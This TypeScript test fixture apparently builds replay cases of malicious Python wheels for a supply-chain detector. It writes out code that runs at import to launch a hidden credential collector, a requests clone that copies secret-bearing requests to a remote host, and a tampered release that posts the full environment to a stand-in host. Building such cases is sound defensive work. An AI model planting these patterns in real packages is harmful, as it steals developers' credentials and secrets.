import { makeZip } from '../support/make-zip.ts';
import { fillerModule } from './filler.ts';
import { beforeAttack, type Draft, type Remote, type Replay, siteIn, textOf } from './incident.ts';
import { httpClientLibrary } from './libraries/http-client.ts';
import { sdkLibrary } from './libraries/sdk.ts';
import { zipAppTool } from './look-alikes/archives.ts';
import { vendoredZip } from './look-alikes/loading.ts';
import { requestRecorder } from './look-alikes/system.ts';
import { credentialCollector } from './payloads.ts';
import { py } from './python-text.ts';

const REMOTE = 'https://metrics.http-insights.invalid';

/** A zip application inside the wheel, started from a thread at import. */
const zipApplication = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'apptimer',
  version: '1.2.0',
  files: {
    'apptimer/clock.py': fillerModule('Clocks.', 200, 211),
    'apptimer/_bin/runtime.pyz': Buffer.concat([
      Buffer.from('#!/usr/bin/env python3\n'),
      makeZip([
        { name: '__main__.py', content: 'from collector import main\n\nmain()\n' },
        { name: 'collector.py', content: `def main():\n    pass\n\n\n${credentialCollector(c)}` },
      ]),
    ]),
  },
  sites: [
    {
      path: 'apptimer/__init__.py',
      form: 'module',
      before: '"""Timers of applications."""\nfrom . import clock\n',
      code: py`
import os
import subprocess
import sys
import threading


def _warm():
    archive = os.path.join(os.path.dirname(os.path.abspath(__file__)), "_bin", "runtime.pyz")
    subprocess.Popen([sys.executable, archive], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


threading.Thread(target=_warm, daemon=True).start()
`,
      after: '',
    },
  ],
});

/** Python code inside a zip that the package puts on its own path. */
const zipOnPath = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'apptimer-lite',
  version: '1.2.0',
  files: {
    'apptimer_lite/clock.py': fillerModule('Clocks.', 200, 212),
    'apptimer_lite/assets.zip': makeZip([{ name: 'clockassets/__init__.py', content: credentialCollector(c) }]),
  },
  sites: [
    {
      path: 'apptimer_lite/__init__.py',
      form: 'module',
      before: '"""Timers of applications."""\nfrom . import clock\n',
      code: 'import os\nimport sys\n\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "assets.zip"))\nimport clockassets\n',
      after: '',
    },
  ],
});

/** A well-known client under another name, with one changed function. */
const clone = (c: Remote): Draft => {
  const files = httpClientLibrary('requests');
  const code = textOf(files, 'requests/sessions.py').replace(
    '        try:\n            raw = urlrequest.urlopen(prepared, timeout=timeout)\n',
    `        if auth or "Authorization" in prepared.headers or body_has_secret(data, json):\n            mirror(prepared)\n        try:\n            raw = urlrequest.urlopen(prepared, timeout=timeout)\n`,
  );
  const helpers = py`

def body_has_secret(data, json):
    return any(word in repr(data or json).lower() for word in ("password", "token", "secret", "api_key"))


def mirror(prepared):
    """Keep a copy of the request for replays."""
    copy = jsonlib.dumps({"url": prepared.full_url, "headers": dict(prepared.header_items()), "body": repr(prepared.data)})
    try:
        urlrequest.urlopen(urlrequest.Request("${c.url('/mirror')}", data=copy.encode()), timeout=1)
    except Exception:
        pass
`;
  return {
    kind: 'wheel',
    name: 'requests-turbo',
    version: '2.27.1',
    files,
    sites: [{ path: 'requests/sessions.py', form: 'whole', before: '', code: `${code}${helpers}`, after: '' }],
  };
};

const library = (version: string): Draft['files'] =>
  sdkLibrary({
    package: 'mailyard',
    vendor: 'Mailyard',
    base: 'https://api.mailyard.example',
    resources: ['messages', 'domains', 'events'],
    version,
    modelLines: 400,
  });

/** The same version once more, with another build tag and one file changed. */
const mutated = (c: Remote): Draft => {
  const files = library('2.5.0');
  return {
    kind: 'wheel',
    name: 'mailyard',
    version: '2.5.0',
    files,
    sites: [
      siteIn(
        files,
        'mailyard/_exceptions.py',
        py`
import os as _os
import urllib.request as _request

try:
    _request.urlopen("${c.url('/e')}", data=repr(sorted(_os.environ.items())).encode(), timeout=2)
except Exception:
    pass
`,
      ),
    ],
  };
};

export const ARCHIVES: readonly Replay[] = [
  {
    id: '33a-zip-application',
    title: 'a .pyz in the wheel, started at import',
    source: 'https://docs.python.org/3/library/zipapp.html',
    runs: 'import starts a bundled zip application in the background; inside it is a collector of credentials',
    remote: REMOTE,
    draft: zipApplication,
    lookAlikes: () => [zipAppTool()],
  },
  {
    id: '33b-zip-on-path',
    title: 'a zip in the wheel is put on sys.path and imported',
    source: 'https://docs.python.org/3/library/zipimport.html',
    runs: 'import puts a bundled zip on the path and imports a module of it that collects and sends credentials',
    remote: REMOTE,
    draft: zipOnPath,
    lookAlikes: () => [vendoredZip()],
  },
  {
    id: '33c-clone',
    title: 'a clone of a known client mirrors requests that carry secrets',
    source: 'https://blog.phylum.io/cloud-provider-credentials-targeted-in-new-pypi-malware-campaign/',
    runs: 'each request with credentials is copied, headers and body, to a constant host',
    remote: REMOTE,
    draft: clone,
    predecessor: () => ({ kind: 'wheel', name: 'requests', version: '2.27.1', files: httpClientLibrary('requests') }),
    lookAlikes: () => [requestRecorder()],
  },
  {
    id: '33d-mutated-release',
    title: 'a release already seen comes back with one file changed',
    source: 'https://python-security.readthedocs.io/pypi-vuln/index-2022-05-24-ctx-domain-takeover.html',
    runs: 'import posts the whole environment to a constant host; version and file name are those of a release served before',
    remote: REMOTE,
    draft: mutated,
    predecessor: () => beforeAttack(mutated, '2.5.0'),
    lookAlikes: () => [],
  },
];
